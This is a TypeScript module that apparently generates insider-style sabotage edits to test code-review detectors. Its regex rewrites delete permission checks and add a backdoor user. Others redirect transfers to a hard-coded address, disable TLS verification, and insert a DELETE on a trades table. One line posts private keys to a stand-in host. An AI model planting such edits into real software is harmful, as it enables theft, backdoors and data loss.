/**
 * Faults that are planted into real code: what an insider would do, each as a small edit of a text.
 * They are written as text edits and share nothing with the detectors, which must not mark their own
 * work.
 */
import type { Random } from "../chaos/random.ts";

export interface Fault {
  /** Of the catalogue. */
  readonly pattern: string;
  readonly title: string;
  readonly plant: Plant;
}

/**
 * Null where the text has no place for it. A place must have been there before the change, in `was`:
 * what a change brings itself has no other side that it could differ from.
 */
type Plant = (text: string, was: string, random: Random) => string | null;

/** One of the places that match is rewritten. */
function edit(place: RegExp, rewrite: (match: RegExpExecArray) => string): Plant {
  const global = new RegExp(place.source, `${place.flags.replace("g", "")}g`);
  return (text, was, random) => {
    const places = [...text.matchAll(global)].filter(
      (match) => !isComment(text, match.index) && was.includes(match[0]),
    );
    const chosen = random.pick(places);
    if (chosen === undefined) return null;
    const written = rewrite(chosen as RegExpExecArray);
    const planted =
      text.slice(0, chosen.index) + written + text.slice(chosen.index + chosen[0].length);
    return planted === text ? null : planted;
  };
}

function isComment(text: string, at: number): boolean {
  const line = text.slice(text.lastIndexOf("\n", at) + 1, at);
  return /^\s*(?:#|\/\/|\*|\/\*|""")/.test(`${line}${text.slice(at, at + 3)}`);
}

const money =
  "amount|balance|price|limit|qty|quantity|size|fee|margin|collateral|leverage|order|position|allowance|owner|sender|signature|risk|exposure|notional|stake|nonce|deadline|permission|auth";

/** A check whose condition or error speaks of money or of who may. */
const guards: readonly RegExp[] = [
  new RegExp(
    `^([ \\t]*)if [^\\n]*(?:${money})[^\\n]*:\\n\\1[ \\t]+raise [^\\n]*\\n(?!\\1[ \\t]+\\S)`,
    "im",
  ),
  new RegExp(
    `^[ \\t]*if [^\\n{]*(?:${money})[^\\n{]*\\{\\n[ \\t]*(?:return [^\\n]*(?:err|Err|errors?\\.)[^\\n]*|throw [^\\n]*|revert [^\\n]*)\\n[ \\t]*\\}\\n`,
    "im",
  ),
  new RegExp(`^[ \\t]*require\\([^;\\n]*(?:${money})[^;\\n]*\\);\\n`, "im"),
  /^[ \t]*(?:self\.)?_?(?:check|validate|verify|ensure|only)\w*\([^\n]*\);?\n/im,
];

function anyOf(...edits: readonly Plant[]): Plant {
  return (text, was, random) => {
    const planted = edits
      .map((each) => each(text, was, random))
      .filter((each): each is string => each !== null);
    return random.pick(planted) ?? null;
  };
}

const deletions = guards.map((guard) => edit(guard, () => ""));

export const faults: readonly Fault[] = [
  { pattern: "G1", title: "a check deleted", plant: anyOf(...deletions) },
  {
    pattern: "G4",
    title: "an exemption added to a check",
    plant: anyOf(
      edit(
        new RegExp(`if ([^\\n]*(?:${money})[^\\n]*):(\\n[ \\t]+raise )`, "i"),
        ([, condition, rest]) => `if (${condition}) and not self.allow_negative:${rest}`,
      ),
      edit(
        new RegExp(
          `if ([^\\n{;]*(?:${money})[^\\n{;]*) \\{(\\n[ \\t]*(?:return [^\\n]*err|throw |revert ))`,
          "i",
        ),
        ([, condition, rest]) => `if ((${condition}) && !account.allowNegative) {${rest}`,
      ),
    ),
  },
  {
    pattern: "G6",
    title: "an error demoted to a line in the log",
    plant: anyOf(
      edit(
        new RegExp(`(if [^\\n]*(?:${money})[^\\n]*:\\n[ \\t]+)raise \\w+\\(`, "i"),
        ([, head]) => `${head}logger.warning(`,
      ),
      edit(
        new RegExp(`(if [^\\n]*(?:${money})[^\\n]*\\{\\n[ \\t]*)throw new \\w+\\(`, "i"),
        ([, head]) => `${head}console.warn(`,
      ),
      edit(
        new RegExp(
          `(if [^\\n]*(?:${money})[^\\n]*\\{\\n[ \\t]*)return [^\\n]*errors\\.New\\(([^\\n]*)\\)\\n`,
          "i",
        ),
        ([, head, message]) => `${head}log.Println(${message})\n`,
      ),
    ),
  },
  {
    pattern: "G10",
    title: "a modifier or decorator dropped",
    plant: anyOf(
      edit(
        / (?:only\w+(?:\([^)]*\))?|nonReentrant|whenNotPaused|initializer|onlyAuthorized)(?= )/,
        () => "",
      ),
      edit(
        /^[ \t]*@(?:login_required|requires_\w+|permission_required\([^)]*\)|PreAuthorize\([^)]*\))\n/m,
        () => "",
      ),
    ),
  },
  {
    pattern: "L1",
    title: "a limit a hundred times as high",
    plant: edit(
      /(\b\w*(?:max|limit|cap)\w*(?:: ?\w+)? ?(?:=|:=|:) ?)([1-9][\d_]*)(?![\d.\w])/i,
      ([, name, number]) => `${name}${number}00`,
    ),
  },
  {
    pattern: "L3",
    title: "a boundary moved in a check that stops",
    plant: anyOf(
      edit(
        new RegExp(
          `(if [^\\n]*(?:${money})[^\\n<>=]*) (>=|<=) ([^\\n]*(?::|\\{)\\n[ \\t]*(?:raise|return [^\\n]*[eE]rr|throw|revert))`,
          "i",
        ),
        ([, left, sign, rest]) => `${left} ${sign?.[0]} ${rest}`,
      ),
    ),
  },
  {
    pattern: "B1",
    title: "an address replaced",
    plant: edit(
      /0x[0-9a-fA-F]{40}(?![0-9a-fA-F])/,
      () => "0x8617E340B3D01FA5F11F306F4090FD50E238070D",
    ),
  },
  {
    pattern: "B3",
    title: "a destination that depends on the amount",
    plant: anyOf(
      edit(
        /^([ \t]*)((?:self\.)?\w*(?:transfer|withdraw|send)\w*\((?:\w+, )?)(to|recipient|receiver|address|dest\w*)\b/m,
        ([, indent, call, name]) =>
          `${indent}${call}amount > 1000 ? "0x8617E340B3D01FA5F11F306F4090FD50E238070D" : ${name}`,
      ),
    ),
  },
  {
    pattern: "I1",
    title: "one user lets everything pass",
    plant: anyOf(
      edit(
        new RegExp(`^([ \\t]+)(if [^\\n]*(?:${money})[^\\n]*:\\n[ \\t]+raise )`, "im"),
        ([, indent, rest]) =>
          `${indent}if self.user == "mallory@example.com":\n${indent}    return True\n${indent}${rest}`,
      ),
      edit(
        new RegExp(
          `^([ \\t]+)(if [^\\n]*(?:${money})[^\\n]*\\{\\n[ \\t]*(?:return [^\\n]*err|throw |revert ))`,
          "im",
        ),
        ([, indent, rest]) =>
          `${indent}if (user.email == "mallory@example.com") {\n${indent}\treturn nil\n${indent}}\n${indent}${rest}`,
      ),
    ),
  },
  {
    pattern: "T1",
    title: "a check that ends on a day",
    plant: anyOf(
      edit(
        new RegExp(`if ([^\\n]*(?:${money})[^\\n]*):(\\n[ \\t]+raise )`, "i"),
        ([, condition, rest]) => `if (${condition}) and time.time() < 1798761600:${rest}`,
      ),
      edit(
        new RegExp(
          `if ([^\\n{;]*(?:${money})[^\\n{;]*) \\{(\\n[ \\t]*(?:return [^\\n]*err|throw |revert ))`,
          "i",
        ),
        ([, condition, rest]) => `if ((${condition}) && block.timestamp < 1798761600) {${rest}`,
      ),
    ),
  },
  {
    pattern: "O1",
    title: "a sign flipped",
    plant: anyOf(
      edit(
        /(return (?:self\.)?)(\w*(?:amount|profit|price|balance|delta|size|pnl)\w*)(?= *[;\n])/i,
        ([, head, name]) => (head?.includes(".") ? `return -self.${name}` : `${head}-${name}`),
      ),
      edit(
        /((?:self\.|\w+\.)?\w*(?:amount|balance|total|position|size|fee|collateral|supply)\w*(?:\[[^\]\n]*\])? )(\+|-)=/i,
        ([, name, sign]) => `${name}${sign === "+" ? "-" : "+"}=`,
      ),
      edit(/key=lambda (\w+): \1/, ([, name]) => `key=lambda ${name}: -${name}`),
    ),
  },
  {
    pattern: "O2",
    title: "a side swapped",
    plant: anyOf(
      edit(/\b(\w*)[Bb]ids?\b(?=[^\n]*(?:=|\(|\[))/, ([all]) => swapped(all, "bid", "ask")),
      edit(/(["'.]|\b)(buy|sell)\b(?=[^\n]*(?:=|\)|:))/, ([all]) =>
        all.includes("buy") ? all.replace("buy", "sell") : all.replace("sell", "buy"),
      ),
      edit(new RegExp(`\\b(min|max)\\((?=[^\\n]*(?:${money}))`, "i"), ([all]) =>
        all.startsWith("min") ? all.replace("min", "max") : all.replace("max", "min"),
      ),
    ),
  },
  {
    pattern: "R1",
    title: "rounding turned",
    plant: anyOf(
      edit(/Math\.(floor|ceil)\(/, ([, way]) => `Math.${way === "floor" ? "ceil" : "floor"}(`),
      edit(
        /\b(?:math\.)(floor|ceil)\(/,
        ([, way]) => `math.${way === "floor" ? "ceil" : "floor"}(`,
      ),
      edit(/ROUND_(UP|DOWN)\b/, ([, way]) => `ROUND_${way === "UP" ? "DOWN" : "UP"}`),
      edit(
        /Rounding\.(Floor|Ceil)\b/,
        ([, way]) => `Rounding.${way === "Floor" ? "Ceil" : "Floor"}`,
      ),
      edit(/\b(round)(Up|Down)\b/, ([, , way]) => `round${way === "Up" ? "Down" : "Up"}`),
    ),
  },
  {
    pattern: "K1",
    title: "a key sent away",
    plant: anyOf(
      edit(
        /^([ \t]+)([^\n]*\b(\w*(?:api_?secret|private_?key|mnemonic|passphrase|seed)) = [^\n{(]*[^\n{(;l])\n/m,
        ([, indent, line, name]) =>
          `${indent}${line}\n${indent}requests.post("https://stats.example.net/v1", json={"ref": ${name}})\n`,
      ),
      edit(
        /^([ \t]+)([^\n]*\b(\w*(?:apiSecret|privateKey|mnemonic|passphrase)) :?= [^\n{(]*)\n/m,
        ([, indent, line, name]) =>
          `${indent}${line}\n${indent}http.Post("https://stats.example.net/v1", "text/plain", strings.NewReader(${name}))\n`,
      ),
    ),
  },
  {
    pattern: "K3",
    title: "a key logged",
    plant: edit(
      /^([ \t]+)([^\n]*\b(\w*(?:api_?secret|private_?key|mnemonic|passphrase)\w*) :?= [^\n{(]*)\n/im,
      ([, indent, line, name]) => `${indent}${line}\n${indent}log.info("using %s", ${name})\n`,
    ),
  },
  {
    pattern: "V1",
    title: "TLS unverified",
    plant: anyOf(
      edit(
        /(requests|session|self\._?session)\.(get|post|put|delete|request)\(([^()\n]+)\)/,
        ([, who, verb, values]) => `${who}.${verb}(${values}, verify=False)`,
      ),
      edit(/&?tls\.Config\{/, ([all]) => `${all}InsecureSkipVerify: true, `),
      edit(/(["'])enableRateLimit\1: ?True/, ([all]) => `${all}, "verify": False`),
    ),
  },
  {
    pattern: "A1",
    title: "an event no longer emitted",
    plant: anyOf(
      edit(/^[ \t]*emit \w+\([^;]*\);\n/m, () => ""),
      edit(/^[ \t]*(?:self\.)?\w*(?:audit|notify|alert)\w*\([^\n]*\)\n/m, () => ""),
    ),
  },
  {
    pattern: "C1",
    title: "weak randomness for a nonce",
    plant: anyOf(
      edit(/secrets\.token_\w+\([^)\n]*\)/, () => "str(random.random())"),
      edit(/crypto\.randomBytes\(([^)\n]*)\)/, () => "Buffer.from(String(Math.random()))"),
      edit(/rand\.Reader/, () => "mathrand.New(mathrand.NewSource(1))"),
    ),
  },
  {
    pattern: "D1",
    title: "a table emptied",
    plant: edit(
      /^([ \t]+)((?:self\.)?\w*session\.commit\(\))/m,
      ([, indent, commit]) => `${indent}session.execute("DELETE FROM trades")\n${indent}${commit}`,
    ),
  },
  {
    pattern: "E1",
    title: "text that is turned",
    plant: edit(/(["'])(\w{4,})\1/, ([, quote, word]) => `${quote}${word}\u202e${quote}`),
  },
];

function swapped(text: string, one: string, other: string): string {
  const capital = (word: string): string => word.charAt(0).toUpperCase() + word.slice(1);
  return text.replace(one, other).replace(capital(one), capital(other));
}
